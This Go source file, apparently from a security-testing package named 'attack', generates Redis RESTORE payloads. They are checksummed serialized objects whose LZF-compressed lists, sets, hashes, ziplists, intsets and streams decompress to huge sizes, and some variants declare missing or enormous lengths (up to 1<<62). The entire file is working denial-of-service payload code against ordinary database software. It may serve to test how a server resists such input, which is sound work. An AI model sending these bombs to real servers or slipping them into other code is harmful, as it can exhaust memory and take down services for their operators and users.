package attack

import (
	"encoding/binary"
	"hash/crc64"
	"strings"
)

// What RESTORE takes, made so that a few bytes stand for many.

// payload returns the object with version and checksum.
func payload(object string) string {
	b := binary.LittleEndian.AppendUint16([]byte(object), 10)
	table := crc64.MakeTable(0x95ac9329ac4bc9b5)
	return string(binary.LittleEndian.AppendUint64(b, ^crc64.Update(^uint64(0), table, b)))
}

// length returns the length as 64 bits.
func length(n int) string { return "\x81" + string(binary.BigEndian.AppendUint64(nil, uint64(n))) }

// compressed returns a text in LZF: head, n times what is repeated, tail.
func compressed(head, repeated string, n int, tail string) string {
	var b strings.Builder
	literal := func(s string) {
		for len(s) > 0 {
			part := s[:min(len(s), 32)]
			b.WriteByte(byte(len(part) - 1))
			b.WriteString(part)
			s = s[len(part):]
		}
	}
	literal(head)
	literal(repeated)
	rest := len(repeated) * (n - 1)
	distance := len(repeated) - 1
	for rest > 264 || rest > 0 && rest < 3 {
		b.WriteString(string([]byte{7<<5 | byte(distance>>8), 255, byte(distance)}))
		rest -= 264
	}
	if rest > 2 && rest < 9 {
		b.WriteString(string([]byte{byte(rest-2)<<5 | byte(distance>>8), byte(distance)}))
	} else if rest >= 9 {
		b.WriteString(string([]byte{7<<5 | byte(distance>>8), byte(rest - 9), byte(distance)}))
	}
	literal(tail)
	all := len(head) + len(repeated)*n + len(tail)
	return "\xc3" + length(b.Len()) + length(all) + b.String()
}

// numbers is a compressed listpack: the elements of head, and n times the number 1.
func numbers(head string, n int) string {
	size := 6 + len(head) + 2*n + 1
	begin := string(binary.LittleEndian.AppendUint32(nil, uint32(size))) + "\xff\xff"
	return compressed(begin+head, "\x01\x01", n, "\xff")
}

// bombs are payloads of about so many bytes each, by what they would become.
func bombs(bytes int) map[string]string {
	n := bytes * 264 / 3 / 2 // numbers, of two bytes each, in a listpack
	var texts, nodes strings.Builder
	const parts = 64
	for range parts {
		texts.WriteString(compressed("", "x", bytes/parts*88, ""))
		nodes.WriteString("\x02" + numbers("", n/parts))
	}
	return map[string]string{
		"a list of numbers":          payload("\x12" + length(1) + "\x02" + numbers("", n)),
		"a list of many nodes":       payload("\x12" + length(parts) + nodes.String()),
		"a list of long texts":       payload("\x01" + length(parts) + texts.String()),
		"a set of long texts":        payload("\x02" + length(parts) + texts.String()),
		"a hash of numbers":          payload("\x10" + numbers("", n)),
		"a sorted set of numbers":    payload("\x11" + numbers("", n)),
		"a string":                   payload("\x00" + compressed("", "x", bytes*88, "")),
		"a list in a ziplist":        payload("\x0a" + compressed(strings.Repeat("\x00", 10), "\x02\xf2", n, "\xff")),
		"a set of integers":          payload("\x0b" + compressed("\x02\x00\x00\x00"+string(binary.LittleEndian.AppendUint32(nil, uint32(n))), "\x01\x00", n, "")),
		"a hash in a zipmap":         payload("\x09" + compressed("\xfe", "\x01a\x01\x00b", n/3, "\xff")),
		"a stream of many fields":    payload("\x13" + length(1) + "\x10" + strings.Repeat("\x00", 16) + numbers("", n)),
		"a length that is not there": payload("\x12" + length(1<<40) + "\x02" + numbers("", 100)),
		"a compressed length":        payload("\x00\xc3" + length(10) + length(1<<62) + "0123456789"),
		"a quicklist length":         payload("\x0e" + length(1<<62)),
	}
}
